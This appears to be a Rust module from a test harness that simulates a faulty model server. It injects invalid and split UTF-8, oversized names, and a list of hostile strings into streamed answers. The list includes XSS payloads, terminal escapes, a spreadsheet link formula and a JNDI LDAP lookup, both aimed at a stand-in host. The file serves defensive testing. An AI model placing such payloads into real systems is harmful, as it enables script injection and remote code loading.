//! Faults in the bytes of texts.

use std::time::Duration;

use crate::behaviour::{Act, Behaviour, Job, Names, Place, World};
use crate::speech::Answer;

/// Length of the hostile model name.
const NAME_BYTES: usize = 1 << 20;
/// Time between the halves of a split character.
const SPLIT: Duration = Duration::from_millis(1);
/// Tokens between two hostile texts.
const BETWEEN: usize = 4;
/// Texts that must never reach a page, a terminal or a spreadsheet as they are.
const HOSTILE: [&str; 7] = [
    "<script>alert(1)</script>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "=HYPERLINK(\"http://203.0.113.9/\",\"x\")",
    "\"><img src=x onerror=alert(1)>",
    "\u{202e}\u{0}\r\n",
    "| [x](javascript:alert(1)) |",
    "';--${jndi:ldap://203.0.113.9/}",
];

/// Bytes that are not UTF-8 inside every text.
pub(super) struct InvalidUtf8;

impl Behaviour for InvalidUtf8 {
    fn acts(&self, _world: &World, _place: Place, mut bytes: Vec<u8>) -> Vec<Act> {
        for key in [b"\"content\":\"".as_slice(), b"\"text\":\""] {
            let found = bytes.windows(key.len()).position(|window| window == key);
            if let Some(at) = found {
                let at = at + key.len();
                bytes.splice(at..at, [0xff, 0xc3, 0x28]);
            }
        }
        vec![Act::Send(bytes)]
    }
}

/// Writes that end in the middle of a character.
pub(super) struct SplitUtf8;

impl Behaviour for SplitUtf8 {
    fn acts(&self, _world: &World, _place: Place, mut bytes: Vec<u8>) -> Vec<Act> {
        let Some(first) = bytes.iter().position(|byte| *byte >= 0xc0) else {
            return vec![Act::Send(bytes)];
        };
        let rest = bytes.split_off(first + 1);
        vec![Act::Send(bytes), Act::Wait(SPLIT), Act::Send(rest)]
    }
}

/// Markup, escapes and formulas in every text, and a name that fills the memory.
pub(super) struct HostileText;

impl Behaviour for HostileText {
    fn answer(&self, _world: &World, _job: &Job, honest: Answer) -> Answer {
        Box::new(honest.enumerate().map(|(place, mut token)| {
            if place % BETWEEN == 0 {
                let text = HOSTILE[place / BETWEEN % HOSTILE.len()];
                token.bytes.to_mut().extend_from_slice(text.as_bytes());
            }
            token
        }))
    }

    fn names(&self, names: &mut Names) {
        let [script, ..] = HOSTILE;
        names.model = script.chars().cycle().take(NAME_BYTES).collect();
        names.in_chunks = HOSTILE.concat();
        names.fingerprint = HOSTILE.concat();
    }
}
